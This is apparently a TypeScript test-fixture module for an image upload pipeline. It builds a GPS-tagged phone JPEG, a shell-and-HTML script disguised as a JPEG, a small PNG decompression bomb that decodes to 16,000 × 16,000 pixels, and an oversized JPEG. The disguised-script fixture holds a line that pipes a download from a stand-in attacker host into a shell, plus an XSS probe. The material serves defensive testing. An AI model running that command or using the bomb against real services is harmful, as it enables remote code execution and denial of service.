/** Test images: a phone photo with a GPS position, a script posing as a photo, a decompression bomb. */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import ExifReader from 'exifreader';

/** A JPEG as a phone writes it: camera make and a GPS position in its EXIF. */
export function phonePhotoWithGps(width = 800, height = 600): Promise<Buffer> {
	return sharp({ create: { width, height, channels: 3, background: { r: 214, g: 170, b: 40 } } })
		.jpeg({ quality: 90 })
		.withExif({
			IFD0: { Make: 'PhoneCo', Model: 'Pocket 12' },
			IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 1234/100', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 3900/100' }
		})
		.toBuffer();
}

/** The GPS position ExifReader finds in an image, or undefined. */
export function gpsOf(bytes: Buffer): { Latitude?: number; Longitude?: number } | undefined {
	try {
		return ExifReader.load(bytes, { expanded: true }).gps;
	} catch {
		return undefined;
	}
}

/** Every EXIF tag group ExifReader finds (file details aside). */
export function metadataGroups(bytes: Buffer): string[] {
	return Object.keys(ExifReader.load(bytes, { expanded: true })).filter((k) => k !== 'file' && k !== 'Thumbnail');
}

export const scriptAsJpeg = () => Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n<script>alert(1)</script>\n');

function chunk(type: string, data: Buffer): Buffer {
	const length = Buffer.alloc(4);
	length.writeUInt32BE(data.length);
	const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
	const crc = Buffer.alloc(4);
	crc.writeUInt32BE(crc32(body));
	return Buffer.concat([length, body, crc]);
}

/** A valid, small PNG (about 30 KB) that decodes to width × height pixels: 1-bit grey, all black. */
export function pixelBombPng(width = 16_000, height = 16_000): Buffer {
	const header = Buffer.alloc(13);
	header.writeUInt32BE(width, 0);
	header.writeUInt32BE(height, 4);
	header.writeUInt8(1, 8); // bit depth
	header.writeUInt8(0, 9); // greyscale
	const rowBytes = 1 + Math.ceil(width / 8);
	const raw = Buffer.alloc(rowBytes * height); // filter byte 0 and black pixels on every row
	return Buffer.concat([
		Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
		chunk('IHDR', header),
		chunk('IDAT', deflateSync(raw, { level: 9 })),
		chunk('IEND', Buffer.alloc(0))
	]);
}

/** A real JPEG padded past a size limit with bytes after its end marker. */
export async function oversizedJpeg(bytes: number): Promise<Buffer> {
	const photo = await phonePhotoWithGps(64, 48);
	return Buffer.concat([photo, Buffer.alloc(bytes - photo.length + 1, 0)]);
}
